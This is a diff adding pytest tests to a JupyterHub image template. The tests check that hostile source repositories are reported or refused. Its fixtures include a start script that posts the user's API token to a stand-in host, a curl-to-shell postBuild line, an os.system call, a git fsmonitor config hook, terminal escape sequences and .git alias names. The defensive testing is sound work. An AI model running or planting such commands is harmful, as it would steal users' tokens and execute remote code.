@@ -21,9 +21,10 @@ from pathlib import Path
 import dask.config
 import pytest
 import yaml
-from conftest import REPO2DOCKER_OPTIONS, ROOT, git, publish_template, render
+from conftest import REPO2DOCKER_OPTIONS, ROOT, git, publish_template, render, skip_unless_required
 from copier import run_copy, run_update
 from copier.errors import TaskError
+from hub_cells import run_postbuild
 from rattler import MatchSpec
 
 from hub_template import load_data, url_credentials
@@ -336,6 +337,7 @@ def test_binder_layout_builds_the_image(binder_hub, sources, tmp_path):
     assert "- dask=2026.1.0" in env_text.split("# The hub's own packages.")[0]
     assert "defaults" not in env_text and "prefix" not in yaml.safe_load(env_text)
     assert (image / "binder" / "apt.txt").read_text().splitlines()[1:] == ["nco", "cdo"]
+    assert "binder/apt.txt now installs the source's Debian packages: nco, cdo" in output
 
     # provenance: the README and the answers
     commit = git(sources["binder"], "rev-parse", "HEAD")
@@ -921,3 +923,325 @@ def test_update_keeps_the_import_and_does_not_fetch_again(sources, tmp_path, cap
     for path, content in before.items():
         if path.name != "environment.yml":
             assert path.read_bytes() == content, path
+
+
+# --- what the hub owns: never replaced, never hidden (issue 27 #8) ---------------------
+
+HOSTILE_START = """\
+#!/bin/bash
+curl -s -d "token=$JUPYTERHUB_API_TOKEN" https://collector.example/t || true
+exec "$@"
+"""
+
+
+def test_a_source_never_replaces_a_file_the_template_rendered(template_repo, tmp_path_factory, tmp_path, capfd):
+    """A source's root hub_dask.py replaced the kubernetes hub's (the dask
+    panel's cluster factory); a name differing only in case does the same on
+    macOS and Windows."""
+    source = make_source(
+        tmp_path_factory.mktemp("owner") / "repo",
+        {"hub_dask.py": "import os; os.system('id')\n", "HUB_DASK.PY": "x = 1\n", "a.ipynb": notebook("A")},
+    )
+    hub, output = copy_hub(
+        template_repo, tmp_path / "deployments" / "kube", capfd, source_repo=str(source), dask_backend="kubernetes"
+    )
+    rendered = ROOT / "template" / "image" / "{% if dask_backend == 'kubernetes' %}hub_dask.py{% endif %}"
+    assert (hub / "image" / "hub_dask.py").read_text() == rendered.read_text()
+    assert not (hub / "image" / "HUB_DASK.PY").exists()
+    for name in ("hub_dask.py", "HUB_DASK.PY"):
+        assert f"warning: {name} left out: image/hub_dask.py is the hub's own file" in output
+    assert (hub / "image" / "a.ipynb").is_file()
+
+
+def test_the_summary_names_every_channel_url_and_script_line(template_repo, tmp_path_factory, tmp_path, capfd):
+    """The import said only "merged into the hub's: ..." while it added a
+    channel, a channel-qualified dask-gateway, a URL requirement, and
+    commands that pipe the internet into a shell and send the user's token."""
+    gateway = VERSIONS["dask_gateway"]
+    source = make_source(
+        tmp_path_factory.mktemp("hostile") / "repo",
+        {
+            "environment.yml": f"channels: [conda-forge, attackerchan]\ndependencies:\n"
+            f"  - attackerchan::dask-gateway={gateway}\n  - pip\n"
+            "  - pip:\n      - helper @ https://files.example/helper-1.0.tar.gz\n",
+            "postBuild": "#!/bin/bash\ncurl -sSL https://get.example/install.sh | sh\necho ok  # \x1b[1A\x1b[2K\u202e\n",
+            "start": HOSTILE_START,
+            "a.ipynb": notebook("A"),
+        },
+    )
+    hub, output = copy_hub(template_repo, tmp_path / "deployments" / "hostile", capfd, source_repo=str(source))
+    env_text = (hub / "image" / "binder" / "environment.yml").read_text()
+    assert f"  - dask-gateway={gateway}  # must equal the hub's dask-gateway server\n" in env_text
+    assert "attackerchan::" not in env_text
+    assert "merged into the hub's:" not in output
+    assert "adds the conda channel 'attackerchan'" in output
+    assert f"asks for attackerchan::dask-gateway={gateway}, but the hub installs dask-gateway={gateway}" in output
+    assert "installs helper @ https://files.example/helper-1.0.tar.gz with pip from a URL" in output
+    assert "image/binder/postBuild now runs the source's 2 command lines at build time:" in output
+    assert "    | curl -sSL https://get.example/install.sh | sh" in output
+    # a terminal's escapes in a line are shown, never acted on (erasing the line above)
+    assert "    | echo ok  # \\x1b[1A\\x1b[2K\\u202e" in output and "\x1b" not in output
+    assert "image/binder/start now runs the source's 1 command lines in every notebook server" in output
+    assert '    | curl -s -d "token=$JUPYTERHUB_API_TOKEN" https://collector.example/t || true' in output
+
+
+def test_a_python_pin_reaches_the_site_packages_postbuild_installs_into(
+    template_repo, tmp_path_factory, tmp_path, capfd
+):
+    """A source's Python 3.11 pin left the kubernetes hub's postBuild copying
+    hub_dask.py into python3.12: postBuild asks the image's Python instead."""
+    here = f"{sys.version_info.major}.{sys.version_info.minor}"
+    pin = here if here != VERSIONS["python_default"] else "3.11"
+    source = make_source(
+        tmp_path_factory.mktemp("py") / "repo",
+        {"environment.yml": f"dependencies:\n  - python={pin}\n", "a.ipynb": notebook("A")},
+    )
+    hub, _ = copy_hub(
+        template_repo, tmp_path / "deployments" / "py", capfd, source_repo=str(source), dask_backend="kubernetes"
+    )
+    assert answers(hub)["python_version"] == pin
+    post_build = (hub / "image" / "binder" / "postBuild").read_text()
+    assert "lib/python3" not in post_build  # no version written twice
+    site_packages = run_postbuild(hub / "image", tmp_path / "prefix")
+    assert (site_packages / "hub_dask.py").read_bytes() == (hub / "image" / "hub_dask.py").read_bytes()
+
+
+# git's own files: a repository inside the image would run its config.
+FSMONITOR = '[core]\n\tbare = false\n\tworktree = .\n\tfsmonitor = "touch {marker}"\n'
+
+
+@pytest.mark.parametrize("where", ["", "notebooks/old/"])
+def test_a_git_directory_layout_is_refused_at_any_depth(where, template_repo, isolated, capfd, tmp_path_factory):
+    marker = isolated / "x"
+    files = {
+        f"{where}HEAD": "ref: refs/heads/main\n",
+        f"{where}objects/info/k": "",
+        f"{where}refs/heads/k": "",
+        f"{where}config": FSMONITOR.format(marker=marker),
+        "a.ipynb": notebook("A"),
+    }
+    source = make_source(tmp_path_factory.mktemp("gitdir") / "repo", files)
+    output = failed_copy(template_repo, isolated, capfd, source_repo=str(source))
+    shown = f"{where}" if where else "its root"
+    assert f"holds a git directory's files (HEAD, objects/, refs/) in {shown}" in output
+    assert not marker.exists()
+
+
+def tree_with(repo: Path, folder: str) -> Path:
+    """A repository whose one commit has `folder`/config, a name git itself
+    refuses to check out on Windows or macOS, made with git's plumbing."""
+    repo.mkdir()
+    git(repo, "init", "-q")
+    blob = (
+        subprocess.run(
+            ["git", "hash-object", "-w", "--stdin"], cwd=repo, input=b"[core]\n", capture_output=True, check=True
+        )
+        .stdout.decode()
+        .strip()
+    )
+
+    def mktree(entries: str) -> str:
+        made = subprocess.run(["git", "mktree"], cwd=repo, input=entries.encode(), capture_output=True, check=True)
+        return made.stdout.decode().strip()
+
+    inner = mktree(f"100644 blob {blob}\tconfig\n")
+    top = mktree(f"040000 tree {inner}\t{folder}\n100644 blob {blob}\tnotes.txt\n")
+    commit = git(repo, "commit-tree", top, "-m", "aliases")
+    git(repo, "update-ref", "refs/heads/main", commit)
+    git(repo, "symbolic-ref", "HEAD", "refs/heads/main")
+    return repo
+
+
+@pytest.mark.parametrize("folder", [".git.", ".git ", ".GIT..", "git~1", ".g\u200cit"])
+def test_names_read_as_dot_git_are_refused(folder, template_repo, isolated, capfd, tmp_path_factory):
+    source = tree_with(tmp_path_factory.mktemp("alias") / "repo", folder)
+    output = failed_copy(template_repo, isolated, capfd, source_repo=str(source))
+    assert f"has {f'{folder}/config'!r}, a name git, Windows or macOS reads as .git" in output
+
+
+# --- real notebook repositories (issue 28) -------------------------------------------
+
+UPSTREAM = ROOT.parent / "shared" / "upstream" / "git"
+
+
+def upstream(name: str) -> str:
+    """A real notebook repository as a file:// URL to its bare copy in
+    ../shared/upstream (the internet's stand-in: the import fetches it with
+    the same hardened git as an https:// URL, one protocol allowed)."""
+    bare = UPSTREAM / f"{name}.git"
+    if not bare.is_dir():
+        skip_unless_required(
+            f"no {bare}: keep hub-template beside shared/ (as CI does) to import the real repositories",
+            "HUB_TEMPLATE_REQUIRE_CHART",  # .ci/run's flag that shared/ is there
+        )
+    return f"file://{bare}"
+
+
+def workspace_files(hub: Path) -> tuple[list[str], dict]:
+    workspace = json.loads((hub / "image" / "binder" / "jupyterlab-workspace.json").read_text())
+    main = workspace["data"]["layout-restorer:data"]["main"]["dock"]["children"][0]["widgets"]
+    return main, workspace
+
+
+def assert_workspace_names_files_in_the_home(hub: Path, first: str) -> None:
+    """The workspace opens `first` where binder/start puts it, and every file it names is there."""
+    main, workspace = workspace_files(hub)
+    assert main[0] == f"notebook:hub-notebooks/{first}"
+    for value in workspace["data"].values():
+        path = value.get("data", {}).get("path") if isinstance(value, dict) else None
+        if path:
+            assert path.startswith("hub-notebooks/") and (hub / "image" / path.removeprefix("hub-notebooks/")).is_file()
+
+
+def test_pangeo_gallery_cmip6(template_repo, tmp_path, capfd):
+    url = upstream("pangeo-gallery-cmip6")
+    hub, output = copy_hub(template_repo, tmp_path / "deployments" / "cmip6", capfd, source_repo=url)
+    check_image(hub, tmp_path, python=VERSIONS["python_default"])
+    assert answers(hub)["source_commit"] == "fb385e89da49689fc6f269fb88e774e4d0673d4f"
+    assert len(list((hub / "image").glob("*.ipynb"))) == 6
+    assert (hub / "image" / "README.md").read_text().startswith("> Imported by hub-template from")
+    assert_workspace_names_files_in_the_home(hub, "basic_search_and_load.ipynb")
+    env_text = (hub / "image" / "binder" / "environment.yml").read_text()
+    for package in ("zarr", "s3fs", "nc-time-axis", "papermill", "notebook"):
+        assert f"  - {package}\n" in env_text, package
+    # its notebooks import what its environment.yml never listed (a shared binder had them)
+    assert "the notebooks import modules no package of image/binder/environment.yml is named after" in output
+    for module in ("cartopy: ECS_Gregory_method.ipynb", "xesmf: ECS_Gregory_method.ipynb", "xhistogram: precip"):
+        assert f"    | {module}" in output, module
+    # named by its environment.yml, or the hub's (intake is a default package of the hub)
+    for named in ("xarray", "dask_gateway", "gcsfs", "matplotlib", "intake", "collections"):
+        assert f"    | {named}:" not in output, named
+
+
+def test_pythia_cmip6_cookbook(template_repo, tmp_path, capfd):
+    url = upstream("pythia-cmip6-cookbook")
+    hub, output = copy_hub(template_repo, tmp_path / "deployments" / "pythia", capfd, source_repo=url)
+    check_image(hub, tmp_path, python=VERSIONS["python_default"])
+    env_text = (hub / "image" / "binder" / "environment.yml").read_text()
+    gateway = VERSIONS["dask_gateway"]
+    # `dask-gateway` (any version): the hub's pin stands, quietly
+    assert f"  - dask-gateway={gateway}  # must equal the hub's dask-gateway server\n" in env_text
+    assert "dask-gateway" not in output.replace(f"dask-gateway={gateway}", "")
+    for package in ("xesmf", "numba>=0.58.0", "act-atmos", "jupyterlab", "mystmd"):
+        assert f"  - {package}\n" in env_text, package
+    # the book's first notebook (myst.yml's table of contents), not the first by name
+    assert_workspace_names_files_in_the_home(hub, "notebooks/foundations/google-cloud-basic.ipynb")
+    assert not (hub / "image" / "notebooks" / "example-workflows" / "dask-worker-space").exists()
+    # every module its notebooks import is named by its environment.yml or the hub's
+    assert "the notebooks import modules" not in output
+
+
+OLD_NOTEBOOK = {
+    "cells": [
+        {"cell_type": "markdown", "metadata": {}, "source": ["# AWS demo"]},
+        {
+            "cell_type": "code",
+            "metadata": {},
+            "outputs": [],
+            "execution_count": None,
+            "source": ["%matplotlib inline\n", "import satstac\n", "import xarray as xr\n", "!pip list\n"],
+        },
+        {
+            "cell_type": "code",
+            "metadata": {},
+            "outputs": [],
+            "execution_count": None,
+            "source": ["from dask_kubernetes import KubeCluster\n", "cluster = KubeCluster(n_workers=2)\n"],
+        },
+        {
+            "cell_type": "code",
+            "metadata": {},
+            "outputs": [],
+            "execution_count": None,
+            "source": ["da = xr.open_rasterio(url)\n", "from helpers import tools\n"],
+        },
+    ],
+    "metadata": {},
+    "nbformat": 4,
+    "nbformat_minor": 5,
+}
+
+
+def test_an_old_repository_is_told_what_will_fail(template_repo, tmp_path_factory, tmp_path, capfd):
+    """The seed's repository, in small: a JupyterLab 3 postBuild step and a
+    JupyterLab 3 pin (left out, saying why), a binder workspace naming files
+    at the home's root with the dask panel's placeholder URL, and a notebook
+    importing a package its environment lacks and calling removed APIs."""
+    workspace = {
+        "data": {
+            "layout-restorer:data": {
+                "main": {
+                    "dock": {
+                        "type": "tab-area",
+                        "currentIndex": 1,
+                        "widgets": ["markdownviewer-widget:Welcome.md", "notebook:0-demo-aws.ipynb"],
+                    }
+                }
+            },
+            "markdownviewer-widget:Welcome.md": {"data": {"path": "Welcome.md", "factory": "Markdown Preview"}},
+            "notebook:0-demo-aws.ipynb": {"data": {"path": "0-demo-aws.ipynb", "factory": "Notebook"}},
+            "notebook:gone.ipynb": {"data": {"path": "gone.ipynb", "factory": "Notebook"}},
+            "dask-dashboard-launcher": {"url": "DASK_DASHBOARD_URL"},
+            "file-browser-filebrowser:cwd": {"path": ""},
+        },
+        "metadata": {"id": "/user/[a-zA-Z0-9_-]+/lab"},
+    }
+    source = make_source(
+        tmp_path_factory.mktemp("old") / "repo",
+        {
+            "binder/environment.yml": "dependencies:\n  - python=3.11\n  - jupyterlab=3.6\n  - xarray\n",
+            "binder/postBuild": "#!/bin/bash\nset -e\nif true; then\n  jupyter labextension install \\\n"
+            "    dask-labextension@0.3.0\nfi\necho done\n",
+            "binder/jupyterlab-workspace.json": json.dumps(workspace),
+            "0-demo-aws.ipynb": json.dumps(OLD_NOTEBOOK),
+            "Welcome.md": "# Welcome\n",
+            "helpers/tools.py": "X = 1\n",
+        },
+    )
+    hub, output = copy_hub(template_repo, tmp_path / "deployments" / "old", capfd, source_repo=str(source))
+    loaded = check_image(hub, tmp_path, python="3.11")  # postBuild runs: no labextension install left in it
+    assert loaded["config"]["labextension"]["factory"]["class"] == "GatewayCluster"
+    post_build = (hub / "image" / "binder" / "postBuild").read_text()
+    assert "labextension install" not in post_build and "dask-labextension@0.3.0" not in post_build
+    assert "'jupyter labextension install dask-labextension@0.3.0' left out: a JupyterLab 3 step" in output
+    assert "jupyterlab=3.6 left out: the image's base has jupyterlab>=4,<5" in output
+    assert "jupyterlab=3.6" not in (hub / "image" / "binder" / "environment.yml").read_text()
+
+    main, saved = workspace_files_any(hub)
+    assert main == ["markdownviewer-widget:hub-notebooks/Welcome.md", "notebook:hub-notebooks/0-demo-aws.ipynb"]
+    assert saved["data"]["notebook:hub-notebooks/0-demo-aws.ipynb"]["data"]["path"] == "hub-notebooks/0-demo-aws.ipynb"
+    assert "notebook:gone.ipynb" not in json.dumps(saved) and "DASK_DASHBOARD_URL" not in json.dumps(saved)
+    assert saved["data"]["file-browser-filebrowser:cwd"]["path"] == "hub-notebooks"
+    assert "notebook:gone.ipynb left out: the image has no gone.ipynb" in output
+    done = subprocess.run(
+        [str(Path(sys.executable).parent / "jupyter"), "lab", "workspaces", "import", "--name", "default",
+         str(hub / "image" / "binder" / "jupyterlab-workspace.json")],
+        capture_output=True, text=True, env={**os.environ, "JUPYTERLAB_WORKSPACES_DIR": str(tmp_path / "lab")},
+    )  # fmt: skip
+    assert done.returncode == 0, done.stderr  # as binder/start imports it
+
+    assert "    | satstac: 0-demo-aws.ipynb" in output and "    | helpers:" not in output
+    assert (
+        "0-demo-aws.ipynb, cell 3: from dask_kubernetes import KubeCluster: the classic KubeCluster was removed"
+        in output
+    )
+    assert "0-demo-aws.ipynb, cell 4: xr.open_rasterio: removed from xarray in 2023.04" in output
+
+
+def workspace_files_any(hub: Path) -> tuple[list[str], dict]:
+    workspace = json.loads((hub / "image" / "binder" / "jupyterlab-workspace.json").read_text())
+    return workspace["data"]["layout-restorer:data"]["main"]["dock"]["widgets"], workspace
+
+
+def test_a_conda_list_export_is_an_environment_file(template_repo, tmp_path, capfd, monkeypatch):
+    """`conda list --export > env.txt`: conda's spec file, read as conda specs
+    (it failed as a requirements.txt), names and versions kept."""
+    (tmp_path / "env.txt").write_text(
+        "# platform: linux-64\nnumpy=1.26.4=py311h64a7726_0\npython=3.11.9=hb806964_0_cpython\nzarr=2.18.2=pyhd8ed1ab_0\n"
+    )
+    monkeypatch.chdir(tmp_path)
+    hub, output = copy_hub(template_repo, tmp_path / "deployments" / "listed", capfd, environment_file="env.txt")
+    check_image(hub, tmp_path, python="3.11")
+    text = (hub / "image" / "binder" / "environment.yml").read_text()
+    assert "  - numpy=1.26.4\n" in text and "  - zarr=2.18.2\n" in text and "py311" not in text
+    assert "build string 'py311h64a7726_0' stripped from numpy=1.26.4" in output
